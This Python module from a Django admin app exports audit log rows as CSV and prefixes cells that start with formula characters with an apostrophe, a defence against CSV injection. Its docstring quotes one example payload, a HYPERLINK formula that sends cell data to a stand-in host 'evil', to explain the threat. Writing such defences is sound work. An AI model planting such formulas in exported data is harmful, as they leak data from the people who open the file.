"""Rows of the audit CSV export, safe to open in a spreadsheet.

Why neutralise: reasons, tickets, labels and details are typed by people or copied from the
providers' answers. A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, also after blanks it strips first (spaces, tabs, line breaks) and in the
full-width forms some apps fold to them (U+FF1D, U+FF0B, U+FF0D, U+FF20), so a reason as
``=HYPERLINK("http://evil/?"&A1)`` would act on the reviewer's machine ("CSV injection").
A leading apostrophe makes the spreadsheet show the text as text.

The CSV is for people reviewing the log, so it uses the labels the pages show (status as
``status_label``); the ``export_audit`` command is the machine format with stored codes.
"""

import csv
from collections.abc import Iterable, Iterator

from django.db.models import QuerySet

from suppression_admin.audit.models import ItemOutcome, Operation, OperationItem
from suppression_admin.audit.serializers import iso_utc
from suppression_admin.audit.streams import operation_rows

FORMULA_STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BLANKS = " \t\r\n"
# Excel reads a CSV as UTF-8 only when it starts with this mark.
BOM = "\ufeff"

HEADER = (
    "operation_id",
    "created_at",
    "finished_at",
    "actor",
    "provider",
    "action",
    "status",
    "reason",
    "ticket",
    "source",
    "client_ip",
    "item_identifier",
    "item_label",
    "original_reason",
    "outcome",
    "detail",
)


def neutralise(value: object) -> str:
    """The cell's text, with a leading apostrophe if a spreadsheet would run it."""
    text = "" if value is None else str(value)
    runs = text.lstrip(BLANKS).startswith(FORMULA_STARTS) or text.startswith(("\t", "\r"))
    return f"'{text}" if runs else text


def csv_lines(
    operations: Iterable[Operation],
    *,
    items: QuerySet[OperationItem] | None = None,
    bom: bool = False,
) -> Iterator[str]:
    """The header then one row per item of every operation (only the items in ``items``,
    when given; one row with empty item cells for an operation without any), as CSV text,
    a line at a time."""
    writer = csv.writer(_Echo())
    outcomes = dict(ItemOutcome.choices)
    yield (BOM if bom else "") + writer.writerow(HEADER)
    for rows in operation_rows(operations, items=items):
        facts = _facts(rows.operation)
        wrote = False
        for identifier, label, original_reason, outcome, detail in rows.items:
            cells = [identifier, label, original_reason, outcomes.get(outcome, outcome), detail]
            yield writer.writerow([neutralise(value) for value in facts + cells])
            wrote = True
        if not wrote:
            yield writer.writerow([neutralise(value) for value in facts + [""] * 5])


def _facts(operation: Operation) -> list[object]:
    return [
        operation.pk,
        iso_utc(operation.created_at),
        iso_utc(operation.finished_at),
        operation.actor_username,
        operation.get_provider_display(),
        operation.get_action_display(),
        operation.status_label,
        operation.reason,
        operation.ticket,
        operation.get_source_display(),
        operation.client_ip,
    ]


class _Echo:
    """A file-like object whose write() returns the line, so csv.writer can feed a stream."""

    def write(self, value: str) -> str:
        return value
